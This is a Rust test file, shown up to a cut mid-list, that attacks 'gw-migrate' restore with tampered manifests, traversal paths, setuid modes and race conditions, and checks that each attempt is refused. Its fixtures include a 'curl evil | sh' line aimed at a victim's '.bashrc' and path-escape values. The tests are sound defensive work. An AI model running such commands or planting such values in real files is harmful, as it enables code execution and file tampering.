//! `gw-migrate` against a hostile tester (issue 29): a manifest edited to name any file,
//! backups readable by others, a database opened after the scan, `gw doctor --fix`
//! removing what its own restore needs, an edit landing between the last read and the
//! rename, a worktree without an index, and the smaller things (a newline in a directory
//! name, `--grove-dir X restore`, a sub-second lock timeout, a failed move's message). And
//! the tamper suite: single-field mutations of a real manifest, each refused with
//! `CORRUPT_STATE` before anything outside the backup changes.
// Skipped tests say why on stderr.
#![allow(clippy::print_stderr)]

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use e2e::{TestEnv, s};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::migrate_fixtures::{announcements, doctor_leftovers, python, restore_statuses};

fn go_file(ws: &str) -> String {
    format!(
        "{{\n  \"mcpServers\": {{\n    \"grove\": {{\n      \"args\": [\n        \"mcp-serve\",\n        \"--workspace\",\n        \"{ws}\"\n      ],\n      \"command\": \"gw\"\n    }}\n  }}\n}}"
    )
}

const KEEPER: &str = "{\n  \"mcpServers\": {\n    \"grove\": {\"command\": \"gw\", \"args\": [\"mcp-serve\"]},\n    \"keeper\": {\"command\": \"keeper\"}\n  }\n}\n";

fn write(p: &Path, text: impl AsRef<[u8]>) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn chmod(p: &Path, mode: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().mode() & 0o7777
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn sha256(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// One digest of everything under `root` but `except` (paths, types, modes, owners, bytes,
/// link targets): what "nothing changed" means.
fn tree_digest(root: &Path, except: &[PathBuf]) -> String {
    let mut h = Sha256::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let mut entries: Vec<PathBuf> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        entries.sort();
        for p in entries {
            if except.iter().any(|x| p.starts_with(x)) {
                continue;
            }
            let m = std::fs::symlink_metadata(&p).unwrap();
            h.update(p.as_os_str().as_encoded_bytes());
            h.update(format!(" {:o} {} {} ", m.mode(), m.uid(), m.gid()).as_bytes());
            if m.is_dir() {
                stack.push(p);
            } else if m.file_type().is_symlink() {
                h.update(
                    std::fs::read_link(&p)
                        .unwrap()
                        .as_os_str()
                        .as_encoded_bytes(),
                );
            } else {
                h.update(std::fs::read(&p).unwrap());
            }
            h.update(b"\n");
        }
    }
    hex(&h.finalize())
}

// ---- manifests, as a hostile tester edits them ----

/// The lines of a manifest, parsed.
fn manifest_lines(backup: &Path) -> Vec<Value> {
    std::fs::read_to_string(backup.join("manifest.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// The record a line holds: `{"record": …, "chain": …}`, or a bare record.
fn record(line: &mut Value) -> &mut Value {
    if line.get("record").is_some() {
        &mut line["record"]
    } else {
        line
    }
}

/// The `intend` entry of line `line`, if it is one.
fn intend(line: &mut Value) -> Option<&mut Value> {
    record(line).get_mut("intend")
}

/// Recomputes the chain of digests a manifest's lines carry (what someone who knows the
/// format does after an edit): each line's is the SHA-256 of the previous one's and the
/// record's text.
fn reseal(lines: &mut [Value]) {
    let mut prev = String::new();
    for line in lines {
        if line.get("chain").is_none() {
            continue;
        }
        let text = serde_json::to_string(&line["record"]).unwrap();
        let chain = sha256(format!("{prev}\n{text}").as_bytes());
        line["chain"] = json!(chain);
        prev = chain;
    }
}

fn text_of(lines: &[Value]) -> String {
    lines
        .iter()
        .map(|l| serde_json::to_string(l).unwrap() + "\n")
        .collect()
}

/// An applied run over a `.mcp.json` to edit: `(backup dir, manifest lines)`.
fn applied_edit(env: &TestEnv, ws: &str) -> (PathBuf, PathBuf) {
    let file = env.grove_home.join("workspaces").join(ws).join(".mcp.json");
    write(&file, KEEPER);
    let r = env.migrate(&["--apply", "--format", "json"]).success();
    let backup = PathBuf::from(r.result()["backup"]["path"].as_str().unwrap());
    (backup, file)
}

// ---- 1. restore writes only where apply wrote ----

#[test]
fn restore_of_a_manifest_naming_another_file_writes_nothing() {
    let env = TestEnv::new();
    let (backup, _) = applied_edit(&env, "ws");
    let victim = env.root.join("victim/bin/tool");
    write(&victim, "#!/bin/sh\necho original\n");
    chmod(&victim, 0o755);
    let chosen = b"#!/bin/sh\necho chosen\n";
    std::fs::write(backup.join("files/00001.mcp.json"), chosen).unwrap();
    let mut lines = manifest_lines(&backup);
    let victim_digest = sha256(&std::fs::read(&victim).unwrap());
    let e = lines.iter_mut().find_map(intend).expect("an intend record");
    e["file"] = json!(s(&victim));
    e["sha256_after"] = json!(victim_digest);
    e["sha256_before"] = json!(sha256(chosen));
    e["mode"] = json!(0o4755);
    reseal(&mut lines);
    std::fs::write(backup.join("manifest.jsonl"), text_of(&lines)).unwrap();

    let except = [backup.clone(), env.grove_home.join("locks")];
    let before = tree_digest(&env.root, &except);
    let r = env.migrate(&["restore", "--format", "json"]).code(5);
    assert_eq!(r.error_code(), "CORRUPT_STATE", "{r}");
    assert_eq!(
        std::fs::read(&victim).unwrap(),
        b"#!/bin/sh\necho original\n",
        "the victim is untouched"
    );
    assert_eq!(mode(&victim), 0o755);
    assert_eq!(
        tree_digest(&env.root, &except),
        before,
        "nothing outside the backup changed"
    );
}

/// Someone who knows the format can recompute the chain of digests (it has no key: a secret
/// is never written to disk), so an edit of the recorded roots is not caught by it. Even
/// then the manifest alone names no file to write but a `.mcp.json`: a file edited through
/// a symlink is written only while the link still leads to it.
#[test]
fn a_resealed_manifest_widened_to_the_root_still_writes_no_other_file() {
    let env = TestEnv::new();
    let wd = env.grove_home.join("workspaces");
    write(&wd.join("shared/servers.json"), KEEPER);
    std::fs::create_dir_all(wd.join("linked")).unwrap();
    std::os::unix::fs::symlink("../shared/servers.json", wd.join("linked/.mcp.json")).unwrap();
    let r = env.migrate(&["--apply", "--format", "json"]).success();
    let backup = PathBuf::from(r.result()["backup"]["path"].as_str().unwrap());
    let victim = env.root.join("victim/.bashrc");
    write(&victim, "the user's own\n");
    let victim_digest = sha256(&std::fs::read(&victim).unwrap());
    let chosen = b"curl evil | sh\n";
    std::fs::write(backup.join("files/00001.mcp.json"), chosen).unwrap();
    let mut lines = manifest_lines(&backup);
    let i = line_of(&mut lines, "begin");
    record(&mut lines[i])["begin"]["roots"] = json!(["/"]);
    let e = lines.iter_mut().find_map(intend).expect("an intend record");
    assert_ne!(e["path"], e["file"], "edited through its link: {e}");
    e["file"] = json!(s(&victim));
    e["sha256_after"] = json!(victim_digest);
    e["sha256_before"] = json!(sha256(chosen));
    reseal(&mut lines);
    std::fs::write(backup.join("manifest.jsonl"), text_of(&lines)).unwrap();

    let except = [backup.clone(), env.grove_home.join("locks")];
    let before = tree_digest(&env.root, &except);
    let r = env.migrate(&["restore", "--format", "json"]);
    assert_eq!(r.error_code(), "STATE_CHANGED", "{r}");
    assert_eq!(r.json()["result"]["files"][0]["status"], "conflict", "{r}");
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "the user's own\n"
    );
    assert_eq!(
        tree_digest(&env.root, &except),
        before,
        "nothing outside the backup changed"
    );
}

// ---- 2. backups are private ----

#[test]
fn backups_are_private_and_keep_each_file_s_mode() {
    let env = TestEnv::new();
    chmod(&env.home, 0o755);
    let wd = env.grove_home.join("workspaces");
    let edited = wd.join("ws/.mcp.json");
    let secret = "{\"mcpServers\": {\"grove\": {\"command\": \"gw\", \"args\": [\"mcp-serve\"]}, \"api\": {\"command\": \"api-mcp\", \"env\": {\"API_KEY\": \"sk-do-not-share\"}}}}\n";
    write(&edited, secret);
    chmod(&edited, 0o600);
    let removed = wd.join("ws2/.mcp.json");
    write(&removed, go_file("ws2"));
    chmod(&removed, 0o640);
    let r = env.migrate(&["--apply", "--format", "json"]).success();
    let backup = PathBuf::from(r.result()["backup"]["path"].as_str().unwrap());
    assert_eq!(mode(&env.grove_home.join("migrate-backups")), 0o700);
    assert_eq!(mode(&backup), 0o700, "the backup directory is private");
    assert_eq!(mode(&backup.join("files")) & 0o077, 0, "files/");
    let copies: Vec<(PathBuf, u32)> = std::fs::read_dir(backup.join("files"))
        .unwrap()
        .map(|e| {
            let p = e.unwrap().path();
            let m = mode(&p);
            (p, m)
        })
        .collect();
    assert_eq!(copies.len(), 2, "{copies:?}");
    for (p, m) in &copies {
        let bytes = std::fs::read(p).unwrap();
        let want = if bytes == secret.as_bytes() {
            0o600
        } else {
            0o640
        };
        assert_eq!(*m, want, "{} keeps its original's mode", p.display());
    }
    env.migrate(&["restore", "--format", "json"]).success();
    assert_eq!(std::fs::read_to_string(&edited).unwrap(), secret);
    assert_eq!(mode(&edited), 0o600);
    assert_eq!(mode(&removed), 0o640);
}

// ---- 3. the database unit is looked at again when it moves ----

/// Opens the database in WAL mode, commits one row and dies without closing it, so the
/// row is only in `messages.db-wal`.
const WRITE_AND_DIE: &str = r#"
import os, sqlite3, sys
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("pragma journal_mode=wal")
db.execute("insert into announcements(message) values ('written during the apply')")
os._exit(0)
"#;

const CREATE: &str = r#"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("pragma journal_mode=wal")
db.execute("create table announcements(id integer primary key, message text)")
db.execute("insert into announcements(message) values ('from the old server')")
db.close()
"#;

fn signal(pid: u32, sig: &str) {
    let ok = Command::new("kill")
        .args([&format!("-{sig}"), &pid.to_string()])
        .status()
        .unwrap()
        .success();
    assert!(ok, "kill -{sig} {pid}");
}

fn spawn_apply(env: &TestEnv) -> Child {
    env.command(e2e::migrate_bin(), &["--apply", "--format", "json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Starts `gw-migrate --apply` and stops it (SIGSTOP) once its manifest records files it
/// is about to change; returns it stopped, with its backup directory.
fn apply_and_pause(env: &TestEnv) -> (Child, PathBuf) {
    pause_when_changing(env, spawn_apply(env))
}

fn pause_when_changing(env: &TestEnv, child: Child) -> (Child, PathBuf) {
    let backups = env.grove_home.join("migrate-backups");
    let start = Instant::now();
    loop {
        let found = std::fs::read_dir(&backups).ok().and_then(|rd| {
            rd.flatten().map(|e| e.path()).find(|d| {
                std::fs::read(d.join("manifest.jsonl"))
                    .is_ok_and(|m| m.windows(8).any(|w| w == b"\"intend\""))
            })
        });
        if let Some(dir) = found {
            signal(child.id(), "STOP");
            return (child, dir);
        }
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "gw-migrate never began to change files"
        );
        std::thread::sleep(Duration::from_micros(200));
    }
}

#[test]
fn a_database_opened_after_the_scan_is_never_split() {
    let Some(py) = python() else { return };
    let env = TestEnv::new();
    let wd = env.grove_home.join("workspaces");
    for i in 0..2000 {
        write(&wd.join(format!("ws-{i:04}/.mcp.json")), go_file("w"));
    }
    let db = env.grove_home.join("messages.db");
    let ok = Command::new(py)
        .args(["-c", CREATE, s(&db)])
        .status()
        .unwrap()
        .success();
    assert!(ok);
    assert!(!env.grove_home.join("messages.db-wal").exists(), "closed");

    let (child, backup) = apply_and_pause(&env);
    let manifest = std::fs::read_to_string(backup.join("manifest.jsonl")).unwrap();
    assert!(
        !manifest.contains("messages.db"),
        "gw-migrate reached the database before it could be paused; the test needs more files"
    );
    // While it is paused, an old server opens the database, commits and dies.
    let ok = Command::new(py)
        .args(["-c", WRITE_AND_DIE, s(&db)])
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let sidecars = ["messages.db", "messages.db-wal", "messages.db-shm"];
    assert!(
        sidecars.iter().all(|n| env.grove_home.join(n).is_file()),
        "the row is in the WAL"
    );
    signal(child.id(), "CONT");
    let out = child.wait_with_output().unwrap();
    let mut v: Value = serde_json::from_slice(&out.stdout).unwrap();
    // Only the database's entries are of interest (2,000 others would bury them).
    let files = v["result"]["files"].as_array_mut().unwrap();
    assert!(
        files
            .iter()
            .all(|f| f["kind"] == "database" || f["status"] == "done"),
        "every .mcp.json was cleaned"
    );
    files.retain(|f| f["kind"] == "database");
    let in_place: Vec<&str> = sidecars
        .iter()
        .copied()
        .filter(|n| env.grove_home.join(n).exists())
        .collect();
    let moved: Vec<&str> = sidecars
        .iter()
        .copied()
        .filter(|n| backup.join("database").join(n).exists())
        .collect();
    assert!(
        in_place.len() == 3 && moved.is_empty(),
        "the database is not split: in place {in_place:?}, moved {moved:?}: {v}"
    );
    let db_items: Vec<&Value> = v["result"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "database")
        .collect();
    assert_eq!(db_items.len(), 1, "the scan saw messages.db alone: {v}");
    assert_eq!(db_items[0]["status"], "skipped", "{v}");
    assert_eq!(db_items[0]["reason"], "changed_since_scan", "{v}");
    assert_eq!(v["error"]["code"], "STATE_CHANGED", "{v}");
    assert_eq!(
        announcements(py, &db),
        ["from the old server", "written during the apply"],
        "the committed row is where it was"
    );
    // Left alone (reading it checkpointed the WAL), the next run moves it whole.
    let present: Vec<&str> = sidecars
        .iter()
        .copied()
        .filter(|n| env.grove_home.join(n).exists())
        .collect();
    let again = env.migrate(&["--apply", "--format", "json"]).success();
    let backup = PathBuf::from(again.result()["backup"]["path"].as_str().unwrap());
    for n in &present {
        assert!(!env.grove_home.join(n).exists(), "{n}: {again}");
        assert!(backup.join("database").join(n).is_file(), "{n}: {again}");
    }
}

// ---- 4. doctor --fix does what its dry run said, and its restore can undo it ----

/// `(kind, path)` of the issues a doctor result calls fixable (or, with `--fix`, fixed).
fn doctor_rows(result: &Value, field: &str, value: &Value) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = result["issues"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| &i[field] == value)
        .map(|i| {
            (
                i["kind"].as_str().unwrap().to_string(),
                i["path"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn doctor_fix_keeps_the_directories_its_restore_puts_files_back_into() {
    let env = TestEnv::with_repos(&["api"]);
    let wd = env.workspace_dir();
    // An orphaned workspace directory holding two leftovers, and a worktree no workspace
    // records holding one.
    let orphan = [wd.join("gone/.mcp.json"), wd.join("gone/api/.mcp.json")];
    for f in &orphan {
        write(f, go_file("gone"));
    }
    let loose = wd.join("loose/api");
    env.git(
        &env.repos.join("api"),
        &["worktree", "add", "-q", "-b", "loose", s(&loose)],
    );
    let loose_file = loose.join(".mcp.json");
    write(&loose_file, go_file("loose"));

    let dry = env.gw(&["doctor", "--format", "json"]).doctor();
    let fixable = doctor_rows(&dry, "fixable", &json!(true));
    let fix = env.gw(&["doctor", "--fix", "--format", "json"]);
    let fixed = doctor_rows(&fix.json()["result"], "outcome", &json!("fixed"));
    assert_eq!(fixed, fixable, "--fix does what the dry run said: {fix}");
    for dir in [wd.join("gone"), wd.join("gone/api"), loose.clone()] {
        assert!(
            dir.is_dir(),
            "{} is kept for the restore: {fix}",
            dir.display()
        );
    }
    let detail = fix.json()["result"]["issues"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|i| {
            i["detail"]
                .as_str()
                .filter(|d| d.contains("gw-migrate restore"))
        })
        .unwrap_or_else(|| panic!("the fix names its restore: {fix}"))
        .to_string();
    let id = detail
        .split("gw-migrate restore ")
        .nth(1)
        .and_then(|rest| rest.split('`').next())
        .unwrap()
        .to_string();
    let restored = env.migrate(&["restore", &id, "--format", "json"]).success();
    for f in restored.result()["files"].as_array().unwrap() {
        assert_eq!(f["status"], "restored", "{restored}");
    }
    for f in orphan.iter().chain([&loose_file]) {
        assert!(f.is_file(), "{} is back", f.display());
    }
}

#[test]
fn doctor_fix_never_removes_a_worktree_holding_a_leftover_it_moves() {
    let env = TestEnv::with_repos(&["api"]);
    let api = env.repos.join("api");
    env.commit(&api, ".mcp.json", &go_file("x"), "the Go grove's file");
    let wd = env.workspace_dir();
    let loose = wd.join("loose/api");
    env.git(&api, &["worktree", "add", "-q", "-b", "loose", s(&loose)]);
    let index = env.git(
        &loose,
        &["rev-parse", "--path-format=absolute", "--git-path", "index"],
    );
    std::fs::remove_file(index.trim()).unwrap();
    let dry = env.gw(&["doctor", "--format", "json"]).doctor();
    let fixable = doctor_rows(&dry, "fixable", &json!(true));
    let fix = env.gw(&["doctor", "--fix", "--format", "json"]);
    let fixed = doctor_rows(&fix.json()["result"], "outcome", &json!("fixed"));
    assert_eq!(fixed, fixable, "--fix does what the dry run said: {fix}");
    assert_eq!(fix.json()["result"]["failed"], 0, "nothing fails: {fix}");
    assert!(
        loose.join(".mcp.json").is_file(),
        "the leftover is kept: {fix}"
    );
}

// ---- 5. an edit between the last read and the rename is never lost ----

#[test]
fn an_edit_landing_just_before_the_rename_is_kept() {
    if !e2e::require("strace") {
        return;
    }
    let env = TestEnv::new();
    let ws = env.grove_home.join("workspaces/ws");
    let file = ws.join(".mcp.json");
    write(&file, KEEPER);
    // Every rename gw-migrate makes waits 1.5 s before it happens: the window between its
    // last look at the file and the rename, widened.
    let delayed = "rename,renameat,renameat2";
    let child = env
        .command(
            Path::new("strace"),
            &[
                "-f",
                "-qq",
                "-o",
                "/dev/null",
                "-e",
                &format!("trace={delayed}"),
                "-e",
                &format!("inject={delayed}:delay_enter=1500000"),
                s(e2e::migrate_bin()),
                "--apply",
                "--format",
                "json",
            ],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let tmp_written = || {
        std::fs::read_dir(&ws)
            .unwrap()
            .flatten()
            .any(|e| e.file_name().to_string_lossy().contains(".gw-migrate-"))
    };
    while !tmp_written() {
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "no edit was prepared"
        );
        std::thread::sleep(Duration::from_micros(200));
    }
    // gw-migrate has written its edit beside the file and is about to rename it.
    std::thread::sleep(Duration::from_millis(400));
    let mine = KEEPER.replace(
        "\"keeper\": {\"command\": \"keeper\"}",
        "\"keeper\": {\"command\": \"keeper\"},\n    \"mine\": {\"command\": \"added-just-now\"}",
    );
    std::fs::write(&file, &mine).unwrap();
    let out = child.wait_with_output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        mine,
        "the edit made meanwhile is in the file: {v}"
    );
    let f = &v["result"]["files"][0];
    assert_eq!(f["reason"], "changed_since_scan", "{v}");
    assert_eq!(v["error"]["code"], "STATE_CHANGED", "{v}");
    let left: Vec<_> = std::fs::read_dir(&ws)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .filter(|n| n.to_string_lossy().contains(".gw-migrate-"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

// ---- 6. a worktree without an index ----

#[test]
fn a_worktree_without_an_index_counts_as_tracking_unknown() {
    let env = TestEnv::with_repos(&["api"]);
    let api = env.repos.join("api");
    env.commit(&api, ".mcp.json", &go_file("feat-i"), "the Go grove's file");
    env.git(&api, &["push", "-q", "origin", "main"]);
    env.gw(&["create", "feat-i", "-b", "feat/i", "-r", "api"])
        .success();
    let wt = env.ws("feat-i").join("api");
    assert!(wt.join(".mcp.json").is_file());
    let index = env.git(
        &wt,
        &["rev-parse", "--path-format=absolute", "--git-path", "index"],
    );
    std::fs::remove_file(index.trim()).unwrap();
    let dry = env.migrate(&["--format", "json"]).success();
    let f = dry.result()["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == s(&wt.join(".mcp.json")))
        .cloned()
        .unwrap_or_else(|| panic!("{dry}"));
    assert_eq!(f["reason"], "tracking_unknown", "{f}");
    assert_eq!(f["status"], "skipped", "{f}");
    let doctor = env.gw(&["doctor", "--format", "json"]).doctor();
    let row = doctor_leftovers(&doctor)
        .into_iter()
        .find(|(p, _, _)| p == s(&wt.join(".mcp.json")))
        .unwrap();
    assert_eq!(row.1, "tracking_unknown");
    assert!(!row.2, "not fixable");
}

// ---- 7. the smaller things ----

#[test]
fn a_newline_in_a_directory_name_cannot_fake_a_report_line() {
    let env = TestEnv::new();
    let wd = env.grove_home.join("workspaces");
    let odd = wd.join("x\nwould delete everything\x1b[2K");
    write(&odd.join(".mcp.json"), go_file("x"));
    let r = env.migrate(&[]).success();
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines.len(), 1, "one file, one line: {r}");
    assert!(lines[0].contains("x\\nwould delete"), "{r}");
    assert!(!r.stdout.contains('\x1b'), "{r}");
    let applied = env.migrate(&["--apply"]).success();
    assert!(
        !applied.stdout.contains("\nwould delete every"),
        "{applied}"
    );
    let restored = env.migrate(&["restore"]).success();
    assert_eq!(restored.stdout.lines().count(), 1, "{restored}");
}

#[test]
fn grove_dir_before_restore_still_means_restore() {
    let env = TestEnv::new();
    let (_, file) = applied_edit(&env, "ws");
    let r = env
        .migrate(&[
            "--grove-dir",
            s(&env.grove_home),
            "restore",
            "--format",
            "json",
        ])
        .success();
    assert!(r.result()["id"].is_string(), "{r}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), KEEPER);
    // A scan flag with `restore` is a mistake, not a directory named `restore`.
    let r = env
        .migrate(&["--apply", "restore", "--format", "json"])
        .code(2);
    assert_eq!(r.error_code(), "USAGE", "{r}");
}

#[test]
fn a_sub_second_lock_timeout_is_said_as_it_was() {
    let mut env = TestEnv::new();
    write(
        &env.grove_home.join("workspaces/ws/.mcp.json"),
        go_file("ws"),
    );
    let lock = env.grove_home.join("locks/migrate.lock");
    write(&lock, "");
    let held = std::fs::File::open(&lock).unwrap();
    held.lock().unwrap();
    env.set_env("GW_LOCK_TIMEOUT_MS", "300");
    let r = env.migrate(&["--apply", "--format", "json"]).code(7);
    let message = r.json()["error"]["message"].as_str().unwrap().to_string();
    assert!(!message.contains("after 0s"), "{message}");
    assert!(message.contains("0.3s"), "{message}");
    drop(held);
}

/// Makes `dir` immutable (`chattr +i`) until dropped: nothing can be moved out of it, not
/// even by root.
struct Immutable(PathBuf);

impl Immutable {
    fn set(dir: &Path) -> Option<Immutable> {
        let ok = Command::new("chattr")
            .arg("+i")
            .arg(dir)
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        ok.then(|| Immutable(dir.to_path_buf()))
    }
}

impl Drop for Immutable {
    fn drop(&mut self) {
        let _ = Command::new("chattr").arg("-i").arg(&self.0).status();
    }
}

#[test]
fn a_file_that_cannot_be_moved_says_so_and_nothing_else() {
    let env = TestEnv::new();
    let ws = env.grove_home.join("workspaces/ws");
    let file = ws.join(".mcp.json");
    write(&file, go_file("ws"));
    let Some(guard) = Immutable::set(&ws) else {
        e2e::skip(
            "`chattr +i` is not available here (it needs root and a file system that has it)",
        );
        return;
    };
    let r = env.migrate(&["--apply", "--format", "json"]);
    drop(guard);
    let f = &r.json()["result"]["files"][0];
    assert_eq!(f["status"], "failed", "{r}");
    let detail = f["detail"].as_str().unwrap();
    assert!(!detail.contains("put back"), "nothing had moved: {detail}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), go_file("ws"));
}

// ---- the tamper suite ----

/// A real run over every kind of record: a file removed, a file edited, a file edited
/// through a symlink, and the database unit (three files).
fn tamper_world() -> (TestEnv, PathBuf) {
    let env = TestEnv::new();
    let wd = env.grove_home.join("workspaces");
    write(&wd.join("a-removed/.mcp.json"), go_file("a"));
    write(&wd.join("b-edited/.mcp.json"), KEEPER);
    write(&wd.join("shared/servers.json"), KEEPER);
    std::fs::create_dir_all(wd.join("c-linked")).unwrap();
    std::os::unix::fs::symlink("../shared/servers.json", wd.join("c-linked/.mcp.json")).unwrap();
    let mut db = b"SQLite format 3\0".to_vec();
    db.extend([1; 200]);
    write(&env.grove_home.join("messages.db"), db);
    write(
        &env.grove_home.join("messages.db-wal"),
        [0x37, 0x7f, 0x06, 0x82, 9, 9],
    );
    write(&env.grove_home.join("messages.db-shm"), [3; 64]);
    let r = env.migrate(&["--apply", "--format", "json"]).success();
    assert_eq!(r.result()["summary"]["done"], 6, "{r}");
    let backup = PathBuf::from(r.result()["backup"]["path"].as_str().unwrap());
    (env, backup)
}

type Mutation = Box<dyn Fn(&mut Vec<Value>, &Ctx)>;

struct Ctx {
    victim: PathBuf,
    wd: PathBuf,
}

/// The `intend` entry whose path ends with `suffix`.
fn entry<'a>(lines: &'a mut [Value], suffix: &str) -> &'a mut Value {
    lines
        .iter_mut()
        .filter_map(intend)
        .find(|e| e["path"].as_str().is_some_and(|p| p.ends_with(suffix)))
        .unwrap_or_else(|| panic!("no entry for {suffix}"))
}

fn set(suffix: &'static str, field: &'static str, value: Value) -> Mutation {
    Box::new(move |lines, _| entry(lines, suffix)[field] = value.clone())
}

fn set_with(suffix: &'static str, field: &'static str, f: fn(&Ctx) -> Value) -> Mutation {
    Box::new(move |lines, ctx| entry(lines, suffix)[field] = f(ctx))
}

/// The index of the first line whose record is `kind`.
fn line_of(lines: &mut [Value], kind: &str) -> usize {
    lines
        .iter_mut()
        .position(|l| record(l).get(kind).is_some())
        .unwrap_or_else(|| panic!("no {kind} line"))
}

/// Every mutation: `(name, mutation, refused even when the chain is recomputed)`.
fn mutations() -> Vec<(&'static str, Mutation, bool)> {
    const RM: &str = "a-removed/.mcp.json";
    const ED: &str = "b-edited/.mcp.json";
    const LN: &str = "c-linked/.mcp.json";
    const DB: &str = "/messages.db";
    const WAL: &str = "/messages.db-wal";
    let victim = |c: &Ctx| json!(s(&c.victim));
    vec![
        (
            "begin: version",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "begin");
                record(&mut l[i])["begin"]["version"] = json!(99);
            }) as Mutation,
            true,
        ),
        (
            "begin: id",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "begin");
                record(&mut l[i])["begin"]["id"] = json!("20000101T000000Z");
            }),
            true,
        ),
        (
            "begin: created_at",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "begin");
                record(&mut l[i])["begin"]["created_at"] = json!("2000-01-01T00:00:00Z");
            }),
            false,
        ),
        (
            "begin: roots widened to /",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "begin");
                record(&mut l[i])["begin"]["roots"] = json!(["/"]);
            }),
            false,
        ),
        ("removed: n", set(RM, "n", json!(9)), true),
        ("removed: kind", set(RM, "kind", json!("database")), true),
        (
            "removed: action",
            set(RM, "action", json!("remove_entry")),
            true,
        ),
        (
            "removed: path outside",
            Box::new(|l: &mut Vec<Value>, c: &Ctx| {
                let p = c.victim.with_file_name(".mcp.json");
                let e = entry(l, RM);
                e["path"] = json!(s(&p));
                e["file"] = json!(s(&p));
            }),
            true,
        ),
        (
            "removed: path with ..",
            Box::new(|l: &mut Vec<Value>, c: &Ctx| {
                let p = format!("{}/a-removed/../../../../.mcp.json", s(&c.wd));
                let e = entry(l, RM);
                e["path"] = json!(p);
                e["file"] = json!(p);
            }),
            true,
        ),
        (
            "removed: path relative",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let e = entry(l, RM);
                e["path"] = json!("a-removed/.mcp.json");
                e["file"] = json!("a-removed/.mcp.json");
            }),
            true,
        ),
        ("removed: file", set_with(RM, "file", victim), true),
        (
            "removed: backup escapes",
            set(RM, "backup", json!("files/../../../../victim")),
            true,
        ),
        (
            "removed: backup absolute",
            set_with(RM, "backup", victim),
            true,
        ),
        (
            "removed: backup of another entry",
            set(RM, "backup", json!("files/00002.mcp.json")),
            true,
        ),
        (
            "removed: backup in database/",
            set(RM, "backup", json!("database/messages.db")),
            true,
        ),
        (
            "removed: sha256_before",
            set(RM, "sha256_before", json!("00".repeat(32))),
            false,
        ),
        (
            "removed: sha256_before not a digest",
            set(RM, "sha256_before", json!("x")),
            true,
        ),
        (
            "removed: sha256_after added",
            set(RM, "sha256_after", json!("00".repeat(32))),
            true,
        ),
        ("removed: mode setuid", set(RM, "mode", json!(0o4755)), true),
        ("removed: mode sticky", set(RM, "mode", json!(0o1777)), true),
        ("removed: uid", set(RM, "uid", json!(12345)), false),
        ("removed: gid", set(RM, "gid", json!(12345)), false),
        ("removed: unit", set(RM, "unit", json!(1)), true),
        ("edited: file", set_with(ED, "file", victim), true),
        ("edited: path", set_with(ED, "path", victim), true),
        (
            "edited: sha256_after removed",
            set(ED, "sha256_after", Value::Null),
            true,
        ),
        (
            "edited: sha256_after",
            set(ED, "sha256_after", json!("11".repeat(32))),
            false,
        ),
        ("edited: mode setgid", set(ED, "mode", json!(0o2644)), true),
        ("linked: file outside", set_with(LN, "file", victim), true),
        (
            "linked: action",
            set(LN, "action", json!("delete_file")),
            true,
        ),
        (
            "database: path elsewhere",
            Box::new(|l: &mut Vec<Value>, c: &Ctx| {
                let p = c.wd.join("messages.db");
                let e = entry(l, DB);
                e["path"] = json!(s(&p));
                e["file"] = json!(s(&p));
            }),
            true,
        ),
        (
            "database: name",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let e = entry(l, WAL);
                let p = e["path"].as_str().unwrap().replace("-wal", "-other");
                e["path"] = json!(p);
                e["file"] = json!(p);
            }),
            true,
        ),
        (
            "database: unit removed",
            set(WAL, "unit", Value::Null),
            true,
        ),
        (
            "database: unit of another",
            set(WAL, "unit", json!(2)),
            true,
        ),
        (
            "database: backup",
            set(DB, "backup", json!("database/messages.db-wal")),
            true,
        ),
        ("database: kind", set(DB, "kind", json!("mcp_json")), true),
        (
            "records: two swapped",
